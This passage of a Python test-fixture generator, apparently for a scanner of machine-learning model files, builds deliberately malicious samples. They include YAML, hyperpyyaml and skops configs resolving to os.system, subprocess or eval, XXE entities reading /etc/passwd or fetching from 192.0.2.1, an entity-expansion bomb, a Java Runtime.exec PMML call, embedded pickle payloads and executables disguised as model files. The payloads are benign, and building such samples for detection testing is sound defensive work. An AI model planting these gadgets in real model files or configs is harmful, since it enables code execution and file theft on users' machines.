        "target": "target: os.path.join.__globals__\nx: 1\n", "target-two": "model:\n  target: os.system\n", "target-model": "target: subprocess.Popen.x\n", "class-path": "model:\n  class_path: os.system\n  init_args: {}\n", "tag": "x: !!python/object/apply:os.system ['true']\n",
        "tag-name": "x: !!python/name:os.system\n", "tag-module": "x: !!python/module:subprocess\n", "second": "a: 1\n---\nx:\n  _target_: os.system\n", "broken-behind": "x:\n  _target_: os.system\ny: [\n",
        "env": "x: ${oc.env:API_TOKEN}\n", "eval-resolver": "x: ${eval:1+1}\n", "dunder": "x:\n  _target_: torch.nn.Linear.__init__.__globals__\n", "colon": "x:\n  _target_: 'os:system'\n", "pickle": "x:\n  _target_: pickle.load\n",
    }  # fmt: skip
    for name, text in configs.items():
        yield (
            f"{name}.nemo",
            builders.tar({"./model_config.yaml": text.encode(), "./model_weights.ckpt": builders.torch_zip(CLEAN)}),
        )
    yield (
        "system.tar.gz",
        gzip.compress(
            builders.tar({"model_config.yaml": configs["system"].encode(), "model_weights.ckpt": CLEAN}), mtime=0
        ),
    )
    for form in ("new", "apply", "name"):
        yield f"hyperpyyaml-{form}/hyperparams.yaml", f"x: !{form}:os.system ['true']\n".encode()
    yield "hyperpyyaml-include/hyperparams.yaml", b"x: !include:../../other.yaml\n"
    yield "alone/model_config.yaml", configs["system"].encode()
    yield "zip.zip", builders.archive({"conf/config.yaml": configs["system"].encode(), "m.pkl": CLEAN})


def xmls() -> Iterator[tuple[str, bytes]]:
    pmml = '<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/><DataDictionary/>{}</PMML>'
    net = '<net name="m" version="11"><layers>{}</layers><edges/></net>'
    wide = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>'
    yield "entity-wide.xml", wide.encode("utf-16")
    yield (
        "entity.pmml",
        b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>',
    )
    yield (
        "entity.xml",
        b'<?xml version="1.0"?><!DOCTYPE net [<!ENTITY x SYSTEM "http://192.0.2.1/x">]><net name="m" version="11">&x;</net>',
    )
    yield "parameter.pmml", b'<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]><PMML version="4.4"/>'
    yield "doctype.pmml", b'<!DOCTYPE PMML SYSTEM "http://192.0.2.1/x.dtd"><PMML version="4.4"/>'
    yield "public.pmml", b'<!DOCTYPE PMML PUBLIC "x" "http://192.0.2.1/x.dtd"><PMML version="4.4"/>'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    yield "laughs.pmml", f'<!DOCTYPE PMML [<!ENTITY l0 "lol">{laughs}]><PMML version="4.4">&l11;</PMML>'.encode()
    yield (
        "utf-16.pmml",
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>'.encode(
            "utf-16"
        ),
    )
    yield "utf-7.pmml", b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE PMML+AD4-<PMML version="4.4"/>'
    yield "notation.pmml", b'<!DOCTYPE PMML [<!NOTATION x SYSTEM "http://192.0.2.1/x">]><PMML version="4.4"/>'
    yield "stylesheet.pmml", b'<?xml-stylesheet type="text/xsl" href="http://192.0.2.1/x.xsl"?><PMML version="4.4"/>'
    yield (
        "include.pmml",
        pmml.format('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>').encode(),
    )
    yield (
        "java.pmml",
        pmml.format('<Apply function="java.lang.Runtime.exec"><Constant>true</Constant></Apply>').encode(),
    )
    yield "function.pmml", pmml.format('<Apply function="com.example.Evil"/>').encode()
    yield "extension.xml", net.format('<layer id="0" name="x" type="Evil" version="extension"/>').encode()
    yield "opset.xml", net.format('<layer id="0" name="x" type="Run" version="evil_opset"/>').encode()
    yield (
        "weights.xml",
        net.format('<layer id="0" name="x" type="Const" version="opset1"><data path="/etc/passwd"/></layer>').encode(),
    )
    yield "entity-behind-comment.pmml", b'<!-- x --><!DOCTYPE PMML [<!ENTITY x "y">]><PMML version="4.4">&x;</PMML>'
    yield (
        "in-zip.zip",
        builders.archive({"model.pmml": b'<!DOCTYPE PMML SYSTEM "http://192.0.2.1/x.dtd"><PMML version="4.4"/>'}),
    )


def _node(loader: str, module: str, name: str, **more: object) -> dict[str, object]:
    return {"__loader__": loader, "__module__": module, "__class__": name, **more}


def _json(value: object) -> dict[str, object]:
    return _node("JsonNode", "builtins", "str", content=json.dumps(value), is_json=True)


def skops() -> Iterator[tuple[str, bytes]]:
    args = _node("TupleNode", "builtins", "tuple", content=[_json("true")])
    nodes = {
        "function": _node("FunctionNode", "os", "system"), "function-eval": _node("FunctionNode", "builtins", "eval"), "type": _node("TypeNode", "builtins", "eval"),
        "object": _node("ObjectNode", "subprocess", "Popen", content=args), "constructor": _node("ConstructorFromReduceNode", "os", "system", content=args),
        "list": _node("ListNode", "subprocess", "Popen", content=[]), "tuple": _node("TupleNode", "os", "system", content=[]), "dict": _node("DictNode", "os", "system", content={}, key_types=args),
        "set": _node("SetNode", "builtins", "exec", content=[]), "array": _node("NdArrayNode", "os", "system", type="numpy", file="x.npy"),
        "method": _node("MethodNode", "sklearn.linear_model._logistic", "LogisticRegression", content={"func": "system", "obj": _node("TypeNode", "os", "x")}),
        "method-hidden": _node("MethodNode", "builtins", "str", content={"func": "__class__", "obj": _json("x")}),
        "method-lies": _node("MethodNode", "builtins", "str", content={"func": "lower", "obj": _node("ObjectNode", "example", "Evil")}),
        "method-shown": _node("MethodNode", "sklearn.pipeline", "Pipeline", content={"func": "fit", "obj": _node("ObjectNode", "sklearn.pipeline", "Pipeline")}),
        "operator-lies": _node("OperatorFuncNode", "sklearn", "methodcaller", attrs=args), "operator-other": _node("OperatorFuncNode", "operator", "call", attrs=args),
        "operator-caller": _node("OperatorFuncNode", "operator", "methodcaller", attrs=_node("TupleNode", "builtins", "tuple", content=[_json("system")])),
        "operator-getter": _node("OperatorFuncNode", "operator", "attrgetter", attrs=_node("TupleNode", "builtins", "tuple", content=[_json("label")])),
        "partial": _node("PartialNode", "functools", "partial", content={"func": _node("FunctionNode", "os", "system"), "args": args, "kwds": args, "namespace": args}),
        "reduce": _node("LossNode", "os", "system", __reduce__={"args": args}, content=args), "tree": _node("TreeNode", "os", "system", __reduce__={"args": args}, content=args),
        "generator": _node("RandomGeneratorNode", "numpy.random._generator", "Generator", content={"bit_generator": {"content": {"bit_generator": _json("seed")}}}),
        "cached": _node("CachedNode", "builtins", "str", __id__=99), "unknown": _node("EvilNode", "os", "system"), "dunder": _node("FunctionNode", "numpy", "__builtins__"),
        "old-function": _node("FunctionNode", "sklearn", "x", content={"module_path": "os", "function": "system"}), "own": _node("ObjectNode", "example.models", "Model"),
        "deep": _node("DictNode", "builtins", "dict", key_types=args, content={"a": _node("ListNode", "builtins", "list", content=[_node("FunctionNode", "posix", "system")])}),
    }  # fmt: skip
    for name, node in nodes.items():
        yield f"{name}.skops", builders.archive({"schema.json": json.dumps({**node, "protocol": 2}).encode()})
    plain = json.dumps({**_json(1), "protocol": 2}).encode()
    yield "pickle-inside.skops", builders.archive({"schema.json": plain, "x.bin": PAYLOAD})
    yield "array-inside.skops", builders.archive({"schema.json": plain, "x.npy": builders.npy(PAYLOAD, "|O", (1,))})
    yield "pickle.skops", PAYLOAD
    yield (
        "twice.skops",
        builders.archive(
            {"schema.json": b'{"__loader__":"FunctionNode","__module__":"os","__module__":"numpy","__class__":"log1p"}'}
        ),
    )
    yield "no-json.skops", builders.archive({"schema.json": b"{", "x.bin": PAYLOAD})


def posers() -> Iterator[tuple[str, bytes]]:
    heads = {
        "elf.bin": b"\x7fELF\2\1\1", "pe.pt": b"MZ\x90\0\3", "macho.pkl": b"\xcf\xfa\xed\xfe\7\0\0\1", "macho32.pkl": b"\xce\xfa\xed\xfe\7\0\0\1", "fat.bin": b"\xca\xfe\xba\xbe\0\0\0\2",
        "fat64.bin": b"\xca\xfe\xba\xbf\0\0\0\2", "class.bin": b"\xca\xfe\xba\xbe\0\0\0\x34", "wasm.bin": b"\0asm\1\0\0\0", "shortcut.bin": b"L\0\0\0\1\x14\2\0", "big-endian.bin": b"\xfe\xed\xfa\xcf\1\0\0\7",
    }  # fmt: skip
    for name, head in heads.items():
        yield name, head + bytes(200)
    for suffix in ("rds", "msgpack", "ubj", "cbm", "mlmodel"):
        yield f"shell-{suffix}.{suffix}", b"#!/bin/sh\necho example\n"
    yield "node.pt", b'require("child_process").exec("true")\n'
    texts = {
        "shell.model": "#!/bin/sh\necho example\n", "python.bin": "import os\nos.system('true')\n", "python-2.bin": "from subprocess import run\nrun(['true'])\n",
        "batch.bin": "@echo off\r\necho example\r\n", "powershell.bin": "$x = 'example'\r\nInvoke-Expression $x\r\n", "script-host.bin": 'Set s = CreateObject("WScript.Shell")\r\n',
        "php.bin": "<?php echo 1; ?>", "page.safetensors": "<!DOCTYPE html><html><body>Sign in</body></html>", "refusal.bin": '<?xml version="1.0"?><Error><Code>AccessDenied</Code></Error>',
        "lfs.bin.txt.bin": "version  https://git-lfs", "annex.bin": "/annex/objects/SHA256E-s10--abc.bin\n", "source.bin": "import math\nx = math.pi\n",
    }  # fmt: skip
    for name, text in texts.items():
        if name != "lfs.bin.txt.bin":
            yield name, text.encode()
    yield (
        "lfs-in-tar.tar",
        builders.tar(
            {
                "model.safetensors": b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n",
                "a.pkl": CLEAN,
            }
        ),
    )
    yield (
        "lfs-in-zip.zip",
        builders.archive({"model.safetensors": b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n"}),
    )
    yield "elf-with-zip.bin", b"\x7fELF\2\1\1" + bytes(64) + TORCH
    yield "page-with-zip.pt", b"<html></html>" + TORCH
